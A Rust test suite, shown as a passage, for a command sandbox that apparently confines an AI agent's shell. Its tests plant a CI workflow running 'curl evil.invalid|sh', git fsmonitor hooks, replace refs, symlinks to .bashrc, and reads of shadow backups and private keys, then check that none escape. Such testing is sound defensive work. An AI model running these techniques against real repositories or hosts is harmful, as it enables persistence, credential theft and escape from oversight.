    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn a_flake_use_flake_names_by_its_directory_does_not_land() {
    // `use flake ./infra` and `use flake path:./ops#dev` load the flake in
    // that directory, not the one beside `.envrc` (found rereading the
    // change: both landed and ran their shellHook at the next `cd`).
    let e = env();
    e.write(e.ws.join(".envrc"), "use flake ./infra\n");
    e.write(e.ws.join("sub/.envrc"), "use_flake path:../ops#dev\n");
    e.write(e.ws.join("infra/flake.nix"), "# as it was\n");
    e.write(e.ws.join("ops/flake.nix"), "# as it was\n");
    let text = drive(
        &e,
        "echo '# shellHook' >> infra/flake.nix; echo '# shellHook' >> ops/flake.nix; \
         echo '# lock' > infra/flake.lock; echo fine > notes.txt; echo tried",
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert_eq!(
        read(&e.ws.join("infra/flake.nix")),
        "# as it was\n",
        "{text}"
    );
    assert_eq!(read(&e.ws.join("ops/flake.nix")), "# as it was\n", "{text}");
    assert!(!e.ws.join("infra/flake.lock").exists(), "{text}");
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
fn the_kernels_private_file_systems_are_unreadable_as_root() {
    // tracefs (`/sys/kernel/tracing`) and debugfs are mounted for root
    // alone (mode 0700); inside the sandbox root still owns them, so their
    // trace buffers and kernel addresses were readable.
    use std::os::unix::fs::PermissionsExt;
    // SAFETY of the test itself: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: an ordinary user cannot open them anyway");
        return;
    }
    let private: Vec<&str> = ["/sys/kernel/tracing", "/sys/kernel/debug", "/sys/fs/bpf"]
        .into_iter()
        .filter(|d| {
            std::fs::metadata(d).is_ok_and(|m| {
                m.permissions().mode() & 0o005 != 0o005
                    && std::fs::read_dir(d).is_ok_and(|mut r| r.next().is_some())
            })
        })
        .collect();
    if private.is_empty() {
        eprintln!("no private kernel file system with entries on this machine");
        return;
    }
    let e = env();
    let script: String = private
        .iter()
        .map(|d| format!("echo {d}: $(ls -A {d} 2>/dev/null | wc -l); "))
        .collect();
    let text = drive(&e, &format!("{script}echo tried"), &[]);
    assert!(text.contains("tried"), "{text}");
    for d in private {
        assert!(text.contains(&format!("{d}: 0")), "{d} was listed: {text}");
    }
}

#[test]
fn root_only_system_files_beyond_the_tables_entries_are_unreadable_as_root() {
    // SAFETY of the test itself: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: an ordinary user cannot read these files anyway");
        return;
    }
    let e = env();
    let files = [
        "/var/backups/shadow.bak.toolgate-test",
        "/etc/toolgate-test-wireguard/wg0.conf",
        "/etc/toolgate-test-letsencrypt/live/example.com/privkey.pem",
        "/etc/toolgate-test-runner/config.toml",
        "/opt/toolgate-test-app/.env",
        "/var/lib/toolgate-test-db/.pgpass",
    ];
    for f in files {
        let p = Path::new(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, format!("{CANARY} {f}\n")).unwrap();
        std::fs::set_permissions(
            p,
            <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o600),
        )
        .unwrap();
    }
    let script: String = files
        .iter()
        .map(|f| format!("cat {f} 2>/dev/null; "))
        .collect();
    let text = drive(&e, &format!("{script} echo tried"), &[]);
    for f in files {
        let _ = std::fs::remove_file(f);
    }
    for d in [
        "/etc/toolgate-test-wireguard",
        "/etc/toolgate-test-letsencrypt",
        "/etc/toolgate-test-runner",
        "/opt/toolgate-test-app",
        "/var/lib/toolgate-test-db",
    ] {
        let _ = std::fs::remove_dir_all(d);
    }
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

/// Runs `toolgate ARGS` with `file` open on descriptor 7 and `socket` on
/// descriptor 8, neither close-on-exec: what an agent, a terminal
/// multiplexer or a parent shell may leave open in the process that starts
/// toolgate.
fn with_inherited_descriptors(
    e: &Env,
    args: &[&str],
    file: &std::fs::File,
    socket: &std::net::TcpStream,
) -> String {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    require_staging(e);
    let (f, s) = (file.as_raw_fd(), socket.as_raw_fd());
    let mut cmd = e.command(args);
    // SAFETY: only async-signal-safe calls (dup2) between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(f, 7) < 0 || libc::dup2(s, 8) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("--- toolgate {args:?}\n{text}");
    text
}

#[test]
fn descriptors_inherited_by_toolgate_do_not_reach_the_confined_command() {
    use std::io::Read;
    let e = env();
    let secret = e.base.join("outside-secret.txt");
    e.write(&secret, &format!("{CANARY}\n"));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let socket = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (mut far, _) = listener.accept().unwrap();
    far.set_nonblocking(true).unwrap();
    let file = std::fs::File::open(&secret).unwrap();
    let script = "cat /proc/self/fd/7; cat <&7; echo ESCAPED >&8; echo ESCAPED > /proc/self/fd/8; ls -l /proc/self/fd\n";
    std::fs::write(e.ws.join("drive.sh"), script).unwrap();
    let through_bash = with_inherited_descriptors(
        &e,
        &[
            "call",
            "bash",
            r#"{"command":"bash drive.sh"}"#,
            "--mode",
            "auto",
        ],
        &file,
        &socket,
    );
    let through_exec = with_inherited_descriptors(
        &e,
        &["sandbox", "exec", "--", "bash", "drive.sh"],
        &file,
        &socket,
    );
    for text in [&through_bash, &through_exec] {
        assert!(
            !text.contains(CANARY),
            "a file open in toolgate's parent was read from inside"
        );
    }
    let mut got = Vec::new();
    let _ = far.read_to_end(&mut got);
    assert!(
        !String::from_utf8_lossy(&got).contains("ESCAPED"),
        "a socket open in toolgate's parent carried data out of the sandbox"
    );
}

#[test]
fn a_link_the_command_makes_does_not_send_a_later_write_outside_or_into_a_protected_file() {
    let e = env();
    e.write(e.ws.join(".gitignore"), "node_modules/\n");
    git(&e.ws, &["add", ".gitignore"]);
    git(&e.ws, &["commit", "-qm", "ignore"]);
    let outside = e.base.join("outside.txt");
    e.write(&outside, "outside\n");
    e.write(e.home.join(".bashrc"), "# bashrc\n");
    let bashrc = e.home.join(".bashrc");
    let script = format!(
        "set -x\n\
         ln -sf {bashrc} .git/COMMIT_EDITMSG\n\
         mkdir -p .git/logs && rm -f .git/logs/HEAD && ln -s {outside} .git/logs/HEAD\n\
         ln -sf {bashrc} .git/FETCH_HEAD\n\
         ln -s {bashrc} notes.txt\n\
         ln -s .git/config cfg-link\n\
         ln -s {home} docs\n\
         ln -s .git/hooks/pre-commit hook-link\n\
         mkdir -p node_modules/.bin pkg && echo 'echo hi' > pkg/cli.js && ln -s ../../pkg/cli.js node_modules/.bin/cli\n\
         ln -s /usr/bin/env interpreter\n",
        bashrc = bashrc.display(),
        outside = outside.display(),
        home = e.home.display(),
    );
    drive(&e, &script, &[]);
    for planted in [
        ".git/COMMIT_EDITMSG",
        ".git/logs/HEAD",
        ".git/FETCH_HEAD",
        "notes.txt",
        "cfg-link",
        "docs",
        "hook-link",
    ] {
        let p = e.ws.join(planted);
        assert!(
            !std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()),
            "the link {planted} -> {:?} landed",
            std::fs::read_link(&p).ok()
        );
    }
    // What routine work makes lands: a link inside the location to a plain
    // file, and a link to an existing system program (a virtualenv's
    // interpreter).
    for routine in ["node_modules/.bin/cli", "interpreter"] {
        assert!(
            std::fs::symlink_metadata(e.ws.join(routine)).is_ok(),
            "the routine link {routine} did not land"
        );
    }
    // The person's next commit writes nothing outside.
    git(
        &e.ws,
        &["commit", "-q", "--allow-empty", "-m", "touch /tmp/x"],
    );
    assert_eq!(read(&bashrc), "# bashrc\n");
    assert_eq!(read(&outside), "outside\n");
}

/// `git rev-parse` of `what` in `dir`, or `None`.
fn rev(dir: &Path, what: &str) -> Option<String> {
    let out = std::process::Command::new("git")
        .args(["rev-parse", "--verify", "-q", what])
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
}

#[test]
fn content_for_a_protected_path_does_not_reach_the_repository_through_the_index_commits_or_replace_refs()
 {
    let e = env();
    e.write(e.ws.join(".github/workflows/ci.yml"), "on: push # good\n");
    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "ci"]);
    let good = rev(&e.ws, "HEAD:.github/workflows/ci.yml").unwrap();
    let head = rev(&e.ws, "HEAD").unwrap();
    let evil =
        "on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil.invalid|sh}]}}\\n";
    let id = "-c user.name=t -c user.email=t@example.invalid";
    // 1. A commit of refused work-tree writes (the files do not land, the
    //    commit would).
    drive(
        &e,
        &format!(
            "printf '{evil}' > .github/workflows/ci.yml\nprintf 'touch marker\\n' > .envrc\ngit add -A\ngit {id} commit -qm routine\n"
        ),
        &[],
    );
    assert_eq!(
        rev(&e.ws, "HEAD:.github/workflows/ci.yml").as_deref(),
        Some(good.as_str()),
        "a commit carrying a new CI workflow landed"
    );
    assert!(
        rev(&e.ws, "HEAD:.envrc").is_none(),
        "a commit carrying a new .envrc landed"
    );
    // 2. Content staged straight into the index, hidden from `git status`
    //    with skip-worktree: the person's next `git commit -a` records it.
    drive(
        &e,
        &format!(
            "b=$(printf '{evil}' | git hash-object -w --stdin)\n\
             git update-index --cacheinfo 100644,$b,.github/workflows/ci.yml\n\
             git update-index --skip-worktree .github/workflows/ci.yml\n"
        ),
        &[],
    );
    assert_eq!(
        rev(&e.ws, ":.github/workflows/ci.yml").as_deref(),
        Some(good.as_str()),
        "the index now stages a new CI workflow"
    );
    // 3. A commit made without the work tree or the index.
    drive(
        &e,
        &format!(
            "b=$(printf '{evil}' | git hash-object -w --stdin)\n\
             t=$(printf '100644 blob %s\\t.gitlab-ci.yml\\n' $b | git mktree)\n\
             c=$(git {id} commit-tree $t -p HEAD -m x)\n\
             git update-ref refs/heads/main $c\n\
             git update-ref refs/heads/feature $c\n"
        ),
        &[],
    );
    assert!(
        rev(&e.ws, "refs/heads/feature").is_none() && rev(&e.ws, "HEAD:.gitlab-ci.yml").is_none(),
        "a ref to a commit carrying a CI file landed"
    );
    // 4. A pseudo-ref the person resets to after a rebase (`git reset
    //    --hard ORIG_HEAD`), pointing at a commit that adds an .envrc.
    drive(
        &e,
        &format!(
            "b=$(printf 'touch marker\\n' | git hash-object -w --stdin)\n\
             t=$(printf '100644 blob %s\\t.envrc\\n' $b | git mktree)\n\
             git {id} commit-tree $t -p HEAD -m x > .git/ORIG_HEAD\n"
        ),
        &[],
    );
    assert!(
        rev(&e.ws, "ORIG_HEAD:.envrc").is_none(),
        "ORIG_HEAD now names a commit carrying an .envrc"
    );
    // 5. A replace ref: git would show (and check out) other content for
    //    the workflow's blob everywhere.
    drive(
        &e,
        &format!("b=$(printf '{evil}' | git hash-object -w --stdin)\ngit replace {good} $b\n"),
        &[],
    );
    assert!(
        !e.ws.join(".git/refs/replace").exists(),
        "a replace ref landed"
    );
    // Routine commits still land unasked.
    let before = rev(&e.ws, "HEAD").unwrap();
    assert_eq!(before, head, "something moved HEAD");
    drive(
        &e,
        &format!(
            "echo 'fn b() {{}}' >> src/a.rs\ngit add -A\ngit {id} commit -qm routine\ngit checkout -qb topic\n"
        ),
        &[],
    );
    assert_ne!(
        rev(&e.ws, "HEAD").unwrap(),
        head,
        "a routine commit did not land"
    );
    assert!(
        rev(&e.ws, "refs/heads/topic").is_some(),
        "a new branch did not land"
    );
}

#[test]
fn files_direnv_loads_by_convention_do_not_land_flake_shell_devenv_and_layout_node() {
    let e = env();
    e.write(
        e.ws.join(".envrc"),
        "use flake\nuse nix\nuse devenv\nlayout node\n",
    );
    e.write(e.ws.join(".gitignore"), "node_modules/\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "envrc"]);
    let targets = [
        "flake.nix",
        "shell.nix",
        "default.nix",
        "devenv.nix",
        "devenv.yaml",
        "node_modules/.bin/git",
        "mise.dev.toml",
    ];
    let script: String = targets
        .iter()
        .map(|t| format!("mkdir -p \"$(dirname {t})\"; echo 'touch marker' > {t}\n"))
        .collect::<String>()
        + "echo fine > notes.txt\n";
    drive(&e, &script, &[]);
    for t in targets {
        assert!(!e.ws.join(t).exists(), "{t} landed");
    }
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n");
}

#[test]
fn a_repository_not_named_dot_git_planted_in_a_directory_does_not_land() {
    let e = env();
    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "src"]);
    let marker = e.base.join("marker");
    // `src/` made into a git directory whose work tree is itself: the
    // person's next `git status` in src/ (or a prompt showing it) runs
    // the fsmonitor command.
    drive(
        &e,
        &format!(
            "cd src && printf 'ref: refs/heads/main\\n' > HEAD && mkdir -p objects refs/heads && printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {}; false\"\\n' > config\n",
            marker.display()
        ),
        &[],
    );
    let _ = std::process::Command::new("git")
        .args(["status"])
        .current_dir(e.ws.join("src"))
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", &e.home)
        .output();
    assert!(
        !marker.exists(),
        "git status in src/ ran the planted fsmonitor"
    );
    assert!(!e.ws.join("src/config").exists(), "src/config landed");
    // The same with the objects of the real repository, through `commondir`.
    drive(
        &e,
        "mkdir -p lib/refs/heads && cd lib && printf 'ref: refs/heads/main\n' > HEAD && printf '../.git\n' > commondir && printf '[core]\n\tfsmonitor = false\n' > config.worktree
",
        &[],
    );
    assert!(!e.ws.join("lib/commondir").exists(), "lib/commondir landed");
}

#[test]
fn write_access_for_other_users_does_not_land() {
    use std::os::unix::fs::PermissionsExt;
    let e = env();
    e.write(e.ws.join("src/a.rs"), "fn a() {}\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "src"]);
    // Another user of the machine could then plant code in the project
    // (or in a script the person runs) for the person to run.
    drive(
        &e,
        "chmod 777 src\nchmod o+w README src/a.rs\nmkdir -p tools && echo 'echo hi' > tools/run.sh && chmod 0777 tools tools/run.sh\necho fine > notes.txt\n",
        &[],
    );
    for p in ["src", "README", "src/a.rs", "tools", "tools/run.sh"] {
        let mode = std::fs::symlink_metadata(e.ws.join(p))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o002, 0, "{p} landed writable by others ({mode:o})");
    }
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n");
    assert!(
        e.ws.join("tools/run.sh").exists(),
        "the new script did not land"
    );
}

/// A confined command names the files it writes, so it names the lines of
/// the report on what did not land: `.husky/pre` + line break + `  created
/// notes.txt: landed` printed as it was made the refused hook look like two
/// entries, the second one harmless. Names in the report are shown as
/// `list` shows them: quoted as JSON when a character in them is hidden.
#[test]
fn a_line_break_in_a_refused_path_cannot_forge_a_line_of_the_landing_report() {
    let e = env();
    let script = "mkdir -p .husky\nprintf 'evil\\n' > \"$(printf '.husky/pre\\n  created notes.txt: landed')\"\n";
    let text = drive(&e, script, &[]);
    assert!(
        !e.ws
            .join(".husky")
            .join("pre\n  created notes.txt: landed")
            .exists(),
        "the hook landed: {text}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("  created notes.txt")),
        "a forged line: {text}"
    );
    assert!(
        text.contains(r#"/.husky/pre\n  created notes.txt: landed": "#),
        "{text}"
    );
}
